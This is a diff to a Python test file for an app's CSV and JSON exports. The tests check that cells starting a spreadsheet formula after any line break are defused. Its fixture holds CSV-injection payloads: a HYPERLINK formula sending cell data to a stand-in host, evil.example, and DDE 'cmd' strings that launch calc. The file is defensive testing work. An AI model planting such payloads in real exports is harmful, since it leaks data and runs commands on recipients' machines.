@@ -11,7 +11,6 @@ import csv
 import io
 import json
 import os
-import re
 import subprocess
 import sys
 from pathlib import Path
@@ -27,12 +26,18 @@ from tests.web.site import Site
 
 HOSTILE = {
     "reviewer": '=HYPERLINK("http://evil.example/?"&A1, "open me")',
-    # every kind of line break, each followed by a formula start (the audit's case first)
-    "note": "+cmd|' /C calc'!A0\r=cmd|' /C calc'!A0\n@SUM(1)\r\n-2+3\r\r\t=1",
+    # every kind of line break, each followed by a formula start (the audit's case first;
+    # then issue 60's: the rest of what str.splitlines breaks on)
+    "note": "+cmd|' /C calc'!A0\r=cmd|' /C calc'!A0\n@SUM(1)\r\n-2+3\r\r\t=1"
+    "\u2028=2\x85+3\x0b@4\x0c-5\x1c=6\x1d=7\x1e=8\u2029=9",
 }
-DEFUSED_NOTE = "'+cmd|' /C calc'!A0\n'=cmd|' /C calc'!A0\n'@SUM(1)\n'-2+3\n\n'\t=1"
+DEFUSED_NOTE = (
+    "'+cmd|' /C calc'!A0\n'=cmd|' /C calc'!A0\n'@SUM(1)\n'-2+3\n\n'\t=1"
+    "\n'=2\n'+3\n'@4\n'-5\n'=6\n'=7\n'=8\n'=9"
+)
 NUMBER_COLUMNS = ("id", "score", "threshold", "detect_ms", "size_bytes", "profile_version")
-LINE_BREAK = re.compile(r"\r\n|\r|\n")
+# Every character str.splitlines breaks a line on, asked of Python itself.
+SEPARATORS = [chr(c) for c in range(0x3000) if len(f"a{chr(c)}b".splitlines()) == 2]
 
 
 @pytest.mark.parametrize("start", [s for s in FORMULA_STARTS if s != "\r"])
@@ -40,6 +45,13 @@ def test_every_formula_start_is_defused_and_plain_text_is_not(start: str) -> Non
     assert safe_cell(f"{start}SUM(1,2)") == f"'{start}SUM(1,2)"
     assert safe_cell(f"cam{start}1") == f"cam{start}1"
     assert safe_cell(-0.5) == -0.5 and safe_cell(7) == 7 and safe_cell(None) is None
+
+
+def test_every_line_separator_python_knows_is_a_line_break_of_a_cell() -> None:
+    assert len(SEPARATORS) == 10 and "\u2028" in SEPARATORS  # CRLF is CR then LF
+    for separator in [*SEPARATORS, "\r\n"]:
+        assert safe_cell(f"ok{separator}=cmd") == "ok\n'=cmd", repr(separator)
+        assert safe_cell(f"ok{separator}") == "ok\n", repr(separator)
 
 
 def test_every_line_of_a_cell_is_defused_and_its_breaks_are_one_lf() -> None:
@@ -71,9 +83,9 @@ def _rows(text: str) -> list[dict[str, str]]:
 
 
 def _raw_lines_are_safe(raw: str) -> None:
-    """The target of issue 51: split on CR, LF or CRLF, no line begins with = + @ tab or
-    CR, nor with - unless its first cell is a number."""
-    for line in LINE_BREAK.split(raw):
+    """The target of issues 51 and 60: split on every line break ``str.splitlines`` knows,
+    no line begins with = + @ tab or CR, nor with - unless its first cell is a number."""
+    for line in raw.splitlines():
         assert not line.startswith(("=", "+", "@", "\t", "\r")), line
         if line.startswith("-"):
             float(line.split(",")[0])  # a negative number, never text
@@ -115,6 +127,18 @@ def test_every_export_defuses_a_hostile_review(server: WebServer, site: Site,
     exported = run_cli("results", "export", str(out), "--db", site.db)
     assert exported.returncode == 0, exported.stderr
     _check(out.read_bytes().decode("utf-8"), row, total)
+
+    # The JSON exports escape every line break: no raw line of them starts a formula,
+    # and the note reads back as it was saved.
+    jsonl = tmp_path / "export.jsonl"
+    assert run_cli("results", "export", str(jsonl), "--format", "jsonl",
+                   "--db", site.db).returncode == 0  # fmt: skip
+    as_json = request(server.url, "/history.json").body.decode("utf-8")
+    for raw in (listed_json.stdout, as_json, jsonl.read_text()):
+        for line in raw.splitlines():
+            assert not line.lstrip().startswith(FORMULA_STARTS), line
+    notes = {r["review_note"] for r in json.loads(as_json) if r["id"] == row}
+    assert notes == {HOSTILE["note"]}
 
 
 def _cli_bytes(*args: str) -> bytes:
